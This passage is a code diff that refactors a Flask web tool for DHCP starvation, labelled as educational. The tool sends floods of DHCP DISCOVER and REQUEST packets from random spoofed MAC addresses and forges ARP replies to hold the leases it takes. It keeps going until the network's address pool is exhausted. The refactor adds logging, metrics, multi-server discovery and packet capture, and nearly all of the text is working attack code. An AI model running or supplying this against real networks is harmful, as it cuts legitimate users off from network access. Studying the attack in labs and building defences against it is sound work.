@@ -5,190 +5,384 @@ Educational tool for cybersecurity students
 Cross-platform version using psutil for Windows compatibility
 """
 
-from flask import Flask, render_template, jsonify, request
-from scapy.all import *
-from scapy.layers.dhcp import DHCP, BOOTP
-from scapy.layers.inet import IP, UDP
-from scapy.layers.l2 import Ether, ARP
+from flask import Flask, Response, g, render_template, jsonify, request
 import threading
 import time
 import random
 import os
 import sys
 import platform
+import logging
 
-# Try to import netifaces, fall back to psutil if not available
-try:
-    import netifaces
-    USE_NETIFACES = True
-except ImportError:
-    import psutil
-    USE_NETIFACES = False
-    print("Note: Using psutil for network interface detection (netifaces not available)")
+import packets
+from clock import Clock
+from capture import CaptureSession, RecordingTransport
+from detector import PassiveMonitor
+from dhcpwire import MESSAGE_TYPES, parse_frame, summarize_options
+from events import EventBroker, SubscribersFull, stream_events
+from expiry import ExpiryScheduler
+from export import FORMATS, ledger_rows, parse_time, stream
+from httpcache import IMMUTABLE, Compressor, StaticVersions, is_fresh, version_etag
+from interfaces import USE_NETIFACES, InterfaceRegistry
+from history import SessionHistory
+from jobs import JobCache, JobRegistry
+from journal import LeaseJournal
+from ledger import LeaseLedger
+from logconfig import fields, setup_logging
+from metrics import CONTENT_TYPE, REGISTRY
+from pool import PoolMap
+from release import release_leases
+from transport import ScapyTransport
+from workers import ExecutorBusy, PacketExecutor
 
 app = Flask(__name__)
+logger = logging.getLogger('starve.app')
 
 # Global state
 attack_running = False
 attack_thread = None
-stolen_ips = []
+ledger = LeaseLedger()
 network_info = {}
 stop_attack_flag = threading.Event()
+transport = ScapyTransport()  # Swapped for dhcpsim.SimulatedTransport in tests
+clock = Clock()  # Swapped for clock.VirtualClock in tests
+# Server threads (waitress) and how many of them event streams may hold
+SERVER_THREADS = int(os.environ.get('STARVE_THREADS', '16'))
+event_broker = EventBroker()
+interface_registry = InterfaceRegistry()
+jobs = JobRegistry()
+# Discovery results per interface; STARVE_DISCOVERY_TTL seconds, 0 disables reuse
+discoveries = JobCache(jobs, ttl=float(os.environ.get('STARVE_DISCOVERY_TTL', '300')))
+journal = None
+history = None  # SessionHistory next to the journal, for /api/export
+current_session = None  # Id of the running (or last) attack session
+monitor = None  # PassiveMonitor while monitor mode is on
+pool_map = None  # PoolMap of the discovered subnet, fed by ledger changes
+captures = {}  # Session id -> CaptureSession, oldest first
+capture_session = None  # Recording the running attack, if asked to
+# Packet I/O for request handlers runs here. Handlers that wait for the result
+# still hold their server thread, but admission is bounded (workers + backlog)
+# so at most that many server threads are ever tied up waiting on packets
+packet_executor = PacketExecutor(workers=int(os.environ.get('STARVE_PACKET_WORKERS', '2')))
+static_versions = StaticVersions(app.static_folder)
+compressor = Compressor()
+_app_initialized = False
+_app_init_lock = threading.Lock()
 
+# Metrics exposed at /metrics
+DISCOVERS_SENT = REGISTRY.counter('starve_discovers_sent_total', 'DHCP DISCOVERs sent during attacks')
+SNIFF_TIMEOUTS = REGISTRY.counter('starve_sniff_timeouts_total', 'Sniffs that returned no reply', ('phase',))
+OFFER_LATENCY = REGISTRY.histogram('starve_discover_offer_seconds', 'DISCOVER sent to OFFER received')
+OFFER_REQUEST_LATENCY = REGISTRY.histogram('starve_offer_request_seconds', 'OFFER received to REQUEST sent')
+ACK_LATENCY = REGISTRY.histogram('starve_request_ack_seconds', 'REQUEST sent to ACK/NAK received')
+REQUEST_OUTCOMES = REGISTRY.counter('starve_requests_total', 'DHCP REQUESTs by server answer', ('result',))
+LEASES_EXPIRED = REGISTRY.counter('starve_leases_expired_total', 'Leases dropped when their lease time ran out')
+ARP_RESOLUTION = REGISTRY.histogram('starve_arp_resolution_seconds', 'DHCP server MAC resolution time', ('result',))
+LEASES_ACQUIRED = REGISTRY.counter('starve_leases_acquired_total', 'Leases added to the ledger')
+RELEASES = REGISTRY.counter('starve_releases_total', 'DHCP RELEASEs sent, by outcome', ('result',))
+DISCOVERIES = REGISTRY.counter('starve_discoveries_total', 'DHCP server discovery attempts, by outcome', ('result',))
+HTTP_LATENCY = REGISTRY.histogram('starve_http_request_duration_seconds', 'Flask handler latency',
+                                  ('method', 'endpoint', 'status'))
+REGISTRY.gauge('starve_leases_held', 'Leases currently in the ledger', lambda: len(ledger))
+REGISTRY.gauge('starve_attack_running', '1 while an attack session is running', lambda: int(attack_running))
+REGISTRY.gauge('starve_sse_subscribers', 'Open event stream connections', lambda: event_broker.subscriber_count)
+REGISTRY.gauge('starve_packet_ops_in_flight', 'Packet-bound request operations running or queued',
+               lambda: packet_executor.in_flight)
+
+# Server census: stop collecting OFFERs after CENSUS_WINDOW seconds, or
+# CENSUS_IDLE seconds after the last one arrived
+CENSUS_WINDOW = 10.0
+CENSUS_IDLE = 1.0
+
+# Seconds to wait for the ACK (or NAK) after each REQUEST
+ACK_TIMEOUT = 3.0
+
+# Attack loop pacing: wait OFFER_TIMEOUT for each of OFFER_RETRIES DISCOVERs,
+# pause ROUND_DELAY between rounds, and stop once no lease has been won for
+# SATURATION_TIMEOUT seconds
+OFFER_TIMEOUT = 3.0
+OFFER_RETRIES = 3
+ROUND_DELAY = 0.2
+SATURATION_TIMEOUT = 5.0
+
+# Per-session pcap rings: where they go, how big each may get, how many are kept
+CAPTURE_DIR = os.environ.get(
+    'STARVE_CAPTURE_DIR',
+    os.path.join(os.path.dirname(os.path.abspath(__file__)), 'captures')
+)
+CAPTURE_SIZE = int(os.environ.get('STARVE_CAPTURE_SIZE', str(8 * 1024 * 1024)))
+CAPTURE_KEEP = 10
+
+# On-disk lease journal; set STARVE_JOURNAL to an empty string to disable
+JOURNAL_PATH = os.environ.get(
+    'STARVE_JOURNAL',
+    os.path.join(os.path.dirname(os.path.abspath(__file__)), 'leases.db')
+)
 
 def get_network_interfaces():
-    """Get all available network interfaces (cross-platform)"""
-    interfaces = []
-    
-    if USE_NETIFACES:
-        # Use netifaces (Linux/macOS preferred)
-        for iface in netifaces.interfaces():
-            try:
-                # Skip loopback (cross-platform)
-                if iface in ['lo', 'lo0', 'Loopback Pseudo-Interface 1'] or 'loopback' in iface.lower():
-                    continue
-                addrs = netifaces.ifaddresses(iface)
-                if netifaces.AF_INET in addrs:
-                    ip = addrs[netifaces.AF_INET][0]['addr']
-                    interfaces.append({
-                        'name': iface,
-                        'ip': ip
-                    })
-            except:
-                pass
-    else:
-        # Use psutil (Windows fallback)
-        import psutil
-        net_if_addrs = psutil.net_if_addrs()
-        for iface_name, addr_list in net_if_addrs.items():
-            # Skip loopback
-            if 'loopback' in iface_name.lower():
+    """Get all available network interfaces (cross-platform, cached)"""
+    return interface_registry.list()
+
+
+def dhcp_census(interface, window=CENSUS_WINDOW, idle=CENSUS_IDLE):
+    """Send one DISCOVER and collect the OFFER of every server that answers it
+
+    Only OFFERs carrying the probe's xid count, so our own broadcast and
+    other clients' traffic are ignored. Collection ends `window` seconds
+    after the probe, or `idle` seconds after the most recent OFFER.
+    Returns one entry per server, fastest first.
+    """
+    # Generate random MAC for discovery (fixed once - RandMAC re-rolls on every use)
+    mac = str(packets.RandMAC())
+    xid = random.randint(1, 1000000000)
+    
+    discover = packets.Ether(src=mac, dst="ff:ff:ff:ff:ff:ff")
+    discover /= packets.IP(src="0.0.0.0", dst="255.255.255.255")
+    discover /= packets.UDP(sport=68, dport=67)
+    discover /= packets.BOOTP(chaddr=packets.mac2str(mac), xid=xid, flags=0xFFFFFF)
+    discover /= packets.DHCP(options=[("message-type", "discover"), "end"])
+    
+    servers = {}
+    # Listen first so an OFFER that beats the next line can't be missed
+    listener = transport.listen(interface, filter="udp and (port 67 or 68)")
+    try:
+        logger.debug("[*] Sending DHCP discover (xid %#x)...", xid)
+        transport.sendp(discover, interface)
+        sent = clock.monotonic()
+        deadline = sent + window
+        last_offer = None
+        
+        while True:
+            now = clock.monotonic()
+            wait = deadline - now
+            if last_offer is not None:
+                wait = min(wait, last_offer + idle - now)
+            if wait <= 0:
+                break
+            
+            frame = listener.recv(wait)
+            if frame is None:
+                continue
+            info = parse_frame(bytes(frame))
+            if info is None or info['op'] != 2 or info['xid'] != xid:
+                continue
+            options = summarize_options(info['options'])
+            if options['message_type'] != 2:  # DHCP Offer
                 continue
             
-            for addr in addr_list:
-                if addr.family == 2:  # AF_INET (IPv4)
-                    # Skip local addresses
-                    if addr.address.startswith('127.'):
-                        continue
-                    interfaces.append({
-                        'name': iface_name,
-                        'ip': addr.address
-                    })
-                    break  # Only get first IPv4 address
-    
-    return interfaces
-
-
-def discover_dhcp_server(interface):
-    """Discover DHCP server on the network - improved version"""
-    global network_info
+            received = clock.monotonic()
+            last_offer = received
+            server_ip = options['server_id'] or info['ip_src']
+            if server_ip in servers:
+                continue
+            servers[server_ip] = {
+                'server_ip': server_ip,
+                'server_mac': info['src_mac'],
+                'offered_ip': info['yiaddr'],
+                'router_ip': options['router'],
+                'subnet_mask': options['subnet_mask'],
+                'lease_time': options['lease_time'],
+                'latency_ms': round((received - sent) * 1000, 2),
+                'options': {str(name): value for name, value in info['options']
+                            if isinstance(value, (int, str))}
+            }
+            logger.info("[+] OFFER from %s: %s (%.1f ms)", server_ip, info['yiaddr'], (received - sent) * 1000,
+                        extra=fields('census-offer', server=server_ip, offered_ip=info['yiaddr']))
+    finally:
+        listener.close()
     
+    return sorted(servers.values(), key=lambda server: server['latency_ms'])
+
+
+def discover_dhcp_server(interface, window=CENSUS_WINDOW, idle=CENSUS_IDLE):
+    """Discover the DHCP servers on the network; returns the fastest one's IP"""
     try:
-        print(f"[*] Discovering DHCP server on interface: {interface}")
-        
-        # Generate random MAC for discovery
-        mac = RandMAC()
-        
-        # Create DHCP discover packet
-        discover = Ether(src=mac, dst="ff:ff:ff:ff:ff:ff")
-        discover /= IP(src="0.0.0.0", dst="255.255.255.255")
-        discover /= UDP(sport=68, dport=67)
-        discover /= BOOTP(chaddr=mac2str(mac), xid=random.randint(1, 1000000000), flags=0xFFFFFF)
-        discover /= DHCP(options=[("message-type", "discover"), "end"])
+        logger.info("[*] Discovering DHCP server on interface: %s", interface,
+                    extra=fields('discovery-started', interface=interface))
         
-        # Send discover packet
-        print("[*] Sending DHCP discover...")
-        sendp(discover, iface=interface, verbose=0)
+        servers = dhcp_census(interface, window=window, idle=idle)
         
-        # Sniff for DHCP offer
-        print("[*] Waiting for DHCP offer...")
-        packets = sniff(count=1, filter="udp and (port 67 or 68)", timeout=10, iface=interface)
-        
-        if not packets:
-            print("[-] No DHCP offer received")
+        if not servers:
+            logger.warning("[-] No DHCP offer received", extra=fields('discovery-timeout', interface=interface))
+            SNIFF_TIMEOUTS.inc(phase='discovery')
+            DISCOVERIES.inc(result='not_found')
             return None
         
-        # Process the response
-        for packet in packets:
-            if DHCP in packet and packet[DHCP].options[0][1] == 2:  # DHCP Offer
-                server_ip = packet[IP].src
-                offered_ip = packet[BOOTP].yiaddr
-                
-                # Extract DHCP options
-                router_ip = None
-                subnet_mask = None
-                server_id = None
-                
-                for option in packet[DHCP].options:
-                    if isinstance(option, tuple):
-                        if option[0] == 'server_id':
-                            server_id = option[1]
-                        elif option[0] == 'router':
-                            router_ip = option[1]
-                        elif option[0] == 'subnet_mask':
-                            subnet_mask = option[1]
-                
-                # Store network info
-                network_info = {
-                    'server_ip': server_id or server_ip,
-                    'router_ip': router_ip,
-                    'subnet_mask': subnet_mask,
-                    'dhcp_pool_start': offered_ip,
-                    'dhcp_pool_end': 'Dynamic (detected during attack)'
-                }
-                
-                print(f"[+] DHCP server found: {server_id or server_ip}")
-                print(f"[+] Offered IP: {offered_ip}")
-                
-                return server_id or server_ip
+        # The fastest server fills the summary fields, every responder is listed
+        primary = servers[0]
+        pool = PoolMap.from_offer(primary['offered_ip'], primary['subnet_mask'])
+        use_network_info({
+            'interface': interface,
+            'server_ip': primary['server_ip'],
+            'router_ip': primary['router_ip'],
+            'subnet_mask': primary['subnet_mask'],
+            'network': str(pool.network),
+            'dhcp_pool_start': primary['offered_ip'],
+            'dhcp_pool_end': None,  # Known once leases are observed, see pool_map
+            'servers': servers
+        })
         
-        print("[-] No valid DHCP offer found")
-        return None
+        if len(servers) > 1:
+            logger.warning("[!] %d DHCP servers answered: %s", len(servers),
+                           ', '.join(server['server_ip'] for server in servers),
+                           extra=fields('multiple-servers', servers=[server['server_ip'] for server in servers]))
+        logger.info("[+] DHCP server found: %s (offered IP %s)", primary['server_ip'], primary['offered_ip'],
+                    extra=fields('discovery-result', server=primary['server_ip'], offered_ip=primary['offered_ip']))
+        DISCOVERIES.inc(result='found')
+        
+        return primary['server_ip']
         
     except Exception as e:
-        print(f"[-] Error discovering DHCP: {e}")
-        import traceback
-        traceback.print_exc()
+        logger.exception("[-] Error discovering DHCP: %s", e, extra=fields('discovery-error', interface=interface))
+        DISCOVERIES.inc(result='error')
         return None
 
 
+def use_network_info(info):
+    """Make a discovery result the current network and announce it"""
+    global network_info
+    
+    init_pool_map(info['dhcp_pool_start'], info['subnet_mask'])
+    network_info = info
+    ledger.mark_network_changed()
+    event_broker.publish('discovery-result', {
+        'server_ip': info['server_ip'],
+        'network_info': info
+    })
+
+
+def discovery_job(job, interface, window, idle):
+    """Background job: census the interface's DHCP servers"""
+    server_ip = discover_dhcp_server(interface, window=window, idle=idle)
+    if not server_ip:
+        raise RuntimeError('DHCP server not found')
+    return {'server_ip': server_ip, 'servers': network_info['servers'], 'network_info': network_info}
+
+
+def init_pool_map(offered_ip, subnet_mask):
+    """Model the subnet an OFFER describes and mark the leases already held"""
+    global pool_map
+    
+    pool = PoolMap.from_offer(offered_ip, subnet_mask)
+    pool_map = pool
+    pool.reset(entry['ip'] for entry in ledger.snapshot()[1])
+    return pool
+
+
+def track_pool(op, payload):
+    """Ledger listener keeping pool_map in step with the leases held"""
+    pool = pool_map
+    if pool is None:
+        return
+    if op == 'add':
+        pool.add(payload['ip'])
+    elif op == 'remove':
+        pool.remove(payload)
+    elif op == 'clear':
+        pool.reset(entry['ip'] for entry in payload)
+
+
+ledger.add_listener(track_pool)
+
+
+def expire_lease(ip, deadline):
+    """Drop a lease once the server has reclaimed it"""
+    entry = ledger.get(ip)
+    if not entry or entry.get('expires') != deadline:
+        return  # Released, or replaced by a newer lease for the same IP
+    if history:
+        history.end_lease(ip, 'expired')
+    removed = ledger.remove(ip)
+    if removed:
+        LEASES_EXPIRED.inc()
+        event_broker.publish('lease-expired', {'seq': removed[1], 'ips': [ip]})
+        logger.info("[*] Lease for %s expired", ip, extra=fields('lease-expired', ip=ip))
+
+
+expiry = ExpiryScheduler(expire_lease, clock=lambda: clock.time())
+
+
+def track_expiry(op, payload):
+    """Ledger listener keeping one expiry deadline per lease that has one"""
+    if op == 'add':
+        if payload.get('expires'):
+            expiry.schedule(payload['ip'], payload['expires'])
+    elif op == 'remove':
+        expiry.cancel(payload)
+    elif op == 'clear':
+        expiry.clear()
+        for entry in payload:
+            if entry.get('expires'):
+                expiry.schedule(entry['ip'], entry['expires'])
+
+
+ledger.add_listener(track_expiry)
+
+
 def dhcp_send_discover(spoofed_mac, interface):
     """Send DHCP discover packet"""
-    discover = Ether(src=spoofed_mac, dst="ff:ff:ff:ff:ff:ff", type=0x0800)
-    discover /= IP(src='0.0.0.0', dst='255.255.255.255')
-    discover /= UDP(sport=68, dport=67)
-    discover /= BOOTP(chaddr=mac2str(spoofed_mac), xid=random.randint(1, 1000000000), flags=0xFFFFFF)
-    discover /= DHCP(options=[("message-type", "discover"), "end"])
+    discover = packets.Ether(src=spoofed_mac, dst="ff:ff:ff:ff:ff:ff", type=0x0800)
+    discover /= packets.IP(src='0.0.0.0', dst='255.255.255.255')
+    discover /= packets.UDP(sport=68, dport=67)
+    discover /= packets.BOOTP(chaddr=packets.mac2str(spoofed_mac), xid=random.randint(1, 1000000000), flags=0xFFFFFF)
+    discover /= packets.DHCP(options=[("message-type", "discover"), "end"])
     
-    sendp(discover, iface=interface, verbose=0)
-    print(f"[*] DHCP Discover sent from {spoofed_mac}")
+    transport.sendp(discover, interface)
+    DISCOVERS_SENT.inc()
+    logger.info("[*] DHCP Discover sent from %s", spoofed_mac, extra=fields('discover-sent', mac=spoofed_mac))
 
 
 def dhcp_send_request(req_ip, spoofed_mac, server_ip, interface):
     """Send DHCP request for a specific IP"""
-    request = Ether(src=spoofed_mac, dst="ff:ff:ff:ff:ff:ff")
-    request /= IP(src="0.0.0.0", dst="255.255.255.255")
-    request /= UDP(sport=68, dport=67)
-    request /= BOOTP(chaddr=mac2str(spoofed_mac), xid=random.randint(1, 1000000000))
-    request /= DHCP(options=[
+    request = packets.Ether(src=spoofed_mac, dst="ff:ff:ff:ff:ff:ff")
+    request /= packets.IP(src="0.0.0.0", dst="255.255.255.255")
+    request /= packets.UDP(sport=68, dport=67)
+    xid = random.randint(1, 1000000000)
+    request /= packets.BOOTP(chaddr=packets.mac2str(spoofed_mac), xid=xid)
+    request /= packets.DHCP(options=[
         ("message-type", "request"),
         ("server_id", server_ip),
         ("requested_addr", req_ip),
         "end"
     ])
     
-    sendp(request, iface=interface, verbose=0)
-    print(f"[+] DHCP Request sent for {req_ip}")
+    transport.sendp(request, interface)
+    logger.info("[+] DHCP Request sent for %s", req_ip,
+                extra=fields('request-sent', ip=req_ip, mac=spoofed_mac, server=server_ip))
+    return xid
+
+
+def wait_for_ack(listener, xid, timeout=ACK_TIMEOUT):
+    """Wait for the server's answer to the REQUEST with this xid
+
+    Returns ('ack', options), ('nak', options) or (None, None) on timeout,
+    where options is the summarize_options() dict of the reply.
+    """
+    deadline = clock.monotonic() + timeout
+    while True:
+        wait = deadline - clock.monotonic()
+        if wait <= 0:
+            return None, None
+        frame = listener.recv(wait)
+        if frame is None:
+            continue
+        info = parse_frame(bytes(frame))
+        if info is None or info['op'] != 2 or info['xid'] != xid:
+            continue
+        options = summarize_options(info['options'])
+        kind = MESSAGE_TYPES.get(options['message_type'])
+        if kind in ('ack', 'nak'):
+            return kind, options
 
 
 def send_arp_reply(src_ip, source_mac, server_ip, server_mac, interface):
     """Send ARP reply to maintain the lease"""
     try:
-        reply = ARP(op=2, hwsrc=mac2str(source_mac), psrc=src_ip, hwdst=server_mac, pdst=server_ip)
-        send(reply, iface=interface, verbose=0)
-        print(f"[*] ARP reply sent for {src_ip}")
+        reply = packets.ARP(op=2, hwsrc=packets.mac2str(source_mac), psrc=src_ip, hwdst=server_mac, pdst=server_ip)
+        transport.send(reply, interface)
+        logger.info("[*] ARP reply sent for %s", src_ip, extra=fields('arp-reply-sent', ip=src_ip, mac=source_mac))
     except Exception as e:
-        print(f"[-] ARP reply error: {e}")
+        logger.warning("[-] ARP reply error: %s", e, extra=fields('arp-reply-error', ip=src_ip))
 
 
 def dhcp_send_release(ip_address, mac_address, server_ip, interface):
@@ -203,108 +397,140 @@ def dhcp_send_release(ip_address, mac_address, server_ip, interface):
             mac_obj = mac_address
         
         # Create DHCP release packet
-        release = Ether(src=mac_obj, dst="ff:ff:ff:ff:ff:ff")
-        release /= IP(src=ip_address, dst=server_ip)
-        release /= UDP(sport=68, dport=67)
-        release /= BOOTP(
-            chaddr=mac2str(mac_obj),
+        release = packets.Ether(src=mac_obj, dst="ff:ff:ff:ff:ff:ff")
+        release /= packets.IP(src=ip_address, dst=server_ip)
+        release /= packets.UDP(sport=68, dport=67)
+        release /= packets.BOOTP(
+            chaddr=packets.mac2str(mac_obj),
             ciaddr=ip_address,
             xid=random.randint(1, 1000000000)
         )
-        release /= DHCP(options=[
+        release /= packets.DHCP(options=[
             ("message-type", "release"),
             ("server_id", server_ip),
             "end"
         ])
         
         # Send release packet
-        sendp(release, iface=interface, verbose=0)
-        print(f"[✓] DHCP Release sent for {ip_address} (MAC: {mac_obj})")
+        transport.sendp(release, interface)
+        RELEASES.inc(result='released')
+        logger.info("[✓] DHCP Release sent for %s (MAC: %s)", ip_address, mac_obj,
+                    extra=fields('release-sent', ip=ip_address, mac=mac_obj, server=server_ip))
         return True
         
     except Exception as e:
-        print(f"[-] DHCP Release error for {ip_address}: {e}")
-        import traceback
-        traceback.print_exc()
+        RELEASES.inc(result='failed')
+        logger.exception("[-] DHCP Release error for %s: %s", ip_address, e,
+                         extra=fields('release-error', ip=ip_address))
         return False
 
 
 def dhcp_starvation_attack(interface, dhcp_server):
     """Perform DHCP starvation attack - improved version"""
-    global stolen_ips, attack_running, stop_attack_flag
+    global attack_running, stop_attack_flag
     
     stop_attack_flag.clear()
     
     # Timeout tracking
-    last_ip_time = time.time()
-    timeout_seconds = 5
+    last_ip_time = clock.time()
     consecutive_failures = 0
     
     # Get server MAC address
     server_mac = None
+    arp_started = time.perf_counter()
     try:
-        print(f"[*] Getting DHCP server MAC address for {dhcp_server}...")
-        arp_response = sr1(ARP(op=1, pdst=str(dhcp_server)), timeout=3, verbose=0)
+        logger.info("[*] Getting DHCP server MAC address for %s...", dhcp_server)
+        arp_response = transport.sr1(packets.ARP(op=1, pdst=str(dhcp_server)), timeout=3)
         if arp_response:
-            server_mac = arp_response[ARP].hwsrc
-            print(f"[+] Server MAC: {server_mac}")
+            server_mac = arp_response[packets.ARP].hwsrc
+            ARP_RESOLUTION.observe(time.perf_counter() - arp_started, result='resolved')
+            logger.info("[+] Server MAC: %s", server_mac, extra=fields('arp-resolved', server=dhcp_server, mac=server_mac))
         else:
-            print("[-] Could not get server MAC, ARP replies will be skipped")
+            ARP_RESOLUTION.observe(time.perf_counter() - arp_started, result='timeout')
+            logger.warning("[-] Could not get server MAC, ARP replies will be skipped",
+                           extra=fields('arp-timeout', server=dhcp_server))
     except Exception as e:
-        print(f"[-] ARP error: {e}")
+        ARP_RESOLUTION.observe(time.perf_counter() - arp_started, result='error')
+        logger.warning("[-] ARP error: %s", e, extra=fields('arp-error', server=dhcp_server))
     
     try:
         while attack_running and not stop_attack_flag.is_set():
             # Check timeout - stop if no new IPs for 5 seconds
-            elapsed_since_last_ip = time.time() - last_ip_time
-            if elapsed_since_last_ip > timeout_seconds and len(stolen_ips) > 0:
-                print(f"[!] No new IPs acquired for {timeout_seconds} seconds - Pool appears saturated")
-                print(f"[!] Stopping attack. Total IPs acquired: {len(stolen_ips)}")
+            elapsed_since_last_ip = clock.time() - last_ip_time
+            if elapsed_since_last_ip > SATURATION_TIMEOUT and len(ledger) > 0:
+                logger.warning("[!] No new IPs acquired for %s seconds - Pool appears saturated. Total IPs acquired: %d",
+                               SATURATION_TIMEOUT, len(ledger), extra=fields('pool-saturated', total=len(ledger)))
                 break
             
-            # Generate random MAC address
-            mac = RandMAC()
+            # Generate random MAC address (fixed once - RandMAC re-rolls on every use)
+            mac = str(packets.RandMAC())
             
             # Send DHCP discover
             dhcp_send_discover(spoofed_mac=mac, interface=interface)
+            discover_sent = time.perf_counter()
             
             # Wait for DHCP offer with retry logic
             retry_count = 0
-            max_retries = 3
             ip_acquired_this_round = False
             
-            while retry_count < max_retries:
-                print(f"[*] Waiting for DHCP offer (attempt {retry_count + 1}/{max_retries})...")
+            while retry_count < OFFER_RETRIES:
+                logger.debug("[*] Waiting for DHCP offer (attempt %d/%d)...", retry_count + 1, OFFER_RETRIES)
                 
                 # Sniff for DHCP response
-                packets = sniff(count=1, filter="udp and (port 67 or 68)", timeout=3, iface=interface)
+                replies = transport.sniff(interface, filter="udp and (port 67 or 68)", count=1, timeout=OFFER_TIMEOUT)
                 
-                if not packets:
+                if not replies:
+                    SNIFF_TIMEOUTS.inc(phase='offer')
                     retry_count += 1
-                    if retry_count < max_retries:
-                        print("[-] No offer received, retrying...")
+                    if retry_count < OFFER_RETRIES:
+                        logger.info("[-] No offer received, retrying...", extra=fields('offer-timeout', mac=mac))
                         dhcp_send_discover(spoofed_mac=mac, interface=interface)
+                        discover_sent = time.perf_counter()
                     continue
                 
                 # Process DHCP offer
-                packet = packets[0]
-                if DHCP in packet:
+                packet = replies[0]
+                if packets.DHCP in packet:
                     # Check if it's a DHCP offer (message-type = 2)
-                    if packet[DHCP].options[0][1] == 2:
-                        offered_ip = packet[BOOTP].yiaddr
-                        server_ip_from_offer = packet[IP].src
+                    if packet[packets.DHCP].options[0][1] == 2:
+                        offered_ip = packet[packets.BOOTP].yiaddr
+                        server_ip_from_offer = packet[packets.IP].src
                         
                         # Check if it's from our target server
                         if server_ip_from_offer == dhcp_server or dhcp_server == "0":
-                            print(f"[+] DHCP Offer received: {offered_ip}")
+                            offer_received = time.perf_counter()
+                            if pool_map is None:
+                                # Discovery was skipped; model the subnet from this offer
+                                init_pool_map(offered_ip, summarize_options(packet[packets.DHCP].options)['subnet_mask'])
+                            OFFER_LATENCY.observe(offer_received - discover_sent)
+                            logger.info("[+] DHCP Offer received: %s", offered_ip,
+                                        extra=fields('offer-received', ip=offered_ip, mac=mac))
+                            
+                            # Send DHCP request, listening first so the ACK can't be missed
+                            listener = transport.listen(interface, filter="udp and (port 67 or 68)")
+                            try:
+                                xid = dhcp_send_request(
+                                    req_ip=str(offered_ip),
+                                    spoofed_mac=mac,
+                                    server_ip=str(dhcp_server),
+                                    interface=interface
+                                )
+                                request_sent = time.perf_counter()
+                                OFFER_REQUEST_LATENCY.observe(request_sent - offer_received)
+                                answer, ack_options = wait_for_ack(listener, xid)
+                            finally:
+                                listener.close()
                             
-                            # Send DHCP request
-                            dhcp_send_request(
-                                req_ip=str(offered_ip),
-                                spoofed_mac=mac,
-                                server_ip=str(dhcp_server),
-                                interface=interface
-                            )
+                            REQUEST_OUTCOMES.inc(result=answer or 'timeout')
+                            if answer != 'ack':
+                                # Without an ACK the server never committed the lease
+                                if answer is None:
+                                    SNIFF_TIMEOUTS.inc(phase='ack')
+                                logger.warning("[-] No ACK for %s (%s)", offered_ip, answer or 'timeout',
+                                               extra=fields('request-failed', ip=offered_ip, result=answer or 'timeout'))
+                                break
+                            ACK_LATENCY.observe(time.perf_counter() - request_sent)
+                            lease_time = ack_options['lease_time']
                             
                             # Send ARP reply to maintain lease
                             if server_mac:
@@ -317,27 +543,38 @@ def dhcp_starvation_attack(interface, dhcp_server):
                                 )
                             
                             # Add to stolen IPs
+                            acquired = clock.time()
                             ip_entry = {
                                 'ip': offered_ip,
                                 'mac': str(mac),
-                                'time': time.strftime('%H:%M:%S')
+                                'server': str(dhcp_server),
+                                'session': current_session,
+                                'time': time.strftime('%H:%M:%S', time.localtime(acquired)),
+                                'acquired': acquired,
+                                'lease_time': lease_time,
+                                'expires': acquired + lease_time if lease_time else None
                             }
                             
-                            if not any(ip['ip'] == offered_ip for ip in stolen_ips):
-                                stolen_ips.append(ip_entry)
-                                print(f"[✓] IP {offered_ip} acquired! Total: {len(stolen_ips)}")
+                            seq = ledger.add(ip_entry)
+                            if seq is not None:
+                                LEASES_ACQUIRED.inc()
+                                event_broker.publish('lease-added', {'seq': seq, 'lease': ip_entry})
+                                logger.info("[✓] IP %s acquired! Total: %d", offered_ip, len(ledger),
+                                            extra=fields('lease-acquired', ip=offered_ip, mac=mac, total=len(ledger)))
                                 # Reset timeout - we got a new IP!
-                                last_ip_time = time.time()
+                                last_ip_time = clock.time()
                                 consecutive_failures = 0
                                 ip_acquired_this_round = True
                             
                             # Break out of retry loop
                             break
                         else:
-                            print(f"[-] Offer from different server: {server_ip_from_offer}")
+                            logger.info("[-] Offer from different server: %s", server_ip_from_offer,
+                                        extra=fields('offer-foreign', server=server_ip_from_offer))
                             retry_count += 1
                     else:
-                        print(f"[-] Unexpected DHCP message type: {packet[DHCP].options[0][1]}")
+                        logger.info("[-] Unexpected DHCP message type: %s", packet[packets.DHCP].options[0][1],
+                                    extra=fields('unexpected-message'))
                         retry_count += 1
                 else:
                     retry_count += 1
@@ -346,23 +583,106 @@ def dhcp_starvation_attack(interface, dhcp_server):
             if not ip_acquired_this_round:
                 consecutive_failures += 1
                 if consecutive_failures >= 3:
-                    print(f"[!] {consecutive_failures} consecutive failures - checking timeout...")
+                    logger.warning("[!] %d consecutive failures - checking timeout...", consecutive_failures,
+                                   extra=fields('consecutive-failures', count=consecutive_failures))
             
             # Small delay between requests
-            time.sleep(0.2)
+            clock.sleep(ROUND_DELAY)
             
             # Check if pool is exhausted
-            if len(stolen_ips) >= 254:
-                print("[!] Pool exhausted (254 IPs acquired)")
+            if len(ledger) >= 254:
+                logger.warning("[!] Pool exhausted (254 IPs acquired)", extra=fields('pool-exhausted', total=len(ledger)))
                 break
                 
     except Exception as e:
-        print(f"[-] Attack error: {e}")
-        import traceback
-        traceback.print_exc()
+        logger.exception("[-] Attack error: %s", e, extra=fields('attack-error'))
     finally:
         attack_running = False
-        print(f"[*] Attack stopped. Total IPs acquired: {len(stolen_ips)}")
+        stop_capture()
+        if history and current_session:
+            history.end_session(current_session, len(ledger))
+        event_broker.publish('session-stopped', {'total': len(ledger)})
+        logger.info("[*] Attack stopped. Total IPs acquired: %d", len(ledger),
+                    extra=fields('session-stopped', total=len(ledger)))
+
+
+@app.before_request
+def start_request_timer():
+    g.request_started = time.perf_counter()
+
+
+@app.after_request
+def record_request_latency(response):
+    started = g.pop('request_started', None)
+    if started is not None:
+        endpoint = request.url_rule.rule if request.url_rule else 'unmatched'
+        HTTP_LATENCY.observe(time.perf_counter() - started, method=request.method,
+                             endpoint=endpoint, status=response.status_code)
+    return response
+
+
+@app.url_defaults
+def hashed_static_urls(endpoint, values):
+    """url_for('static', ...) gets ?v=<content hash> so the file can be cached for good"""
+    if endpoint == 'static' and 'filename' in values and 'v' not in values:
+        version = static_versions.get(values['filename'])
+        if version:
+            values['v'] = version
+
+
+@app.after_request
+def cache_and_compress(response):
+    if request.endpoint == 'static' and response.status_code in (200, 304):
+        version = request.args.get('v')
+        if version and version == static_versions.get(request.view_args['filename']):
+            response.headers['Cache-Control'] = IMMUTABLE
+    return compressor.compress(response, request.accept_encodings)
+
+
+def cached_json(etag, build):
+    """jsonify(build()) tagged with `etag`, or an empty 304 when the client already has it"""
+    if is_fresh(request, etag):
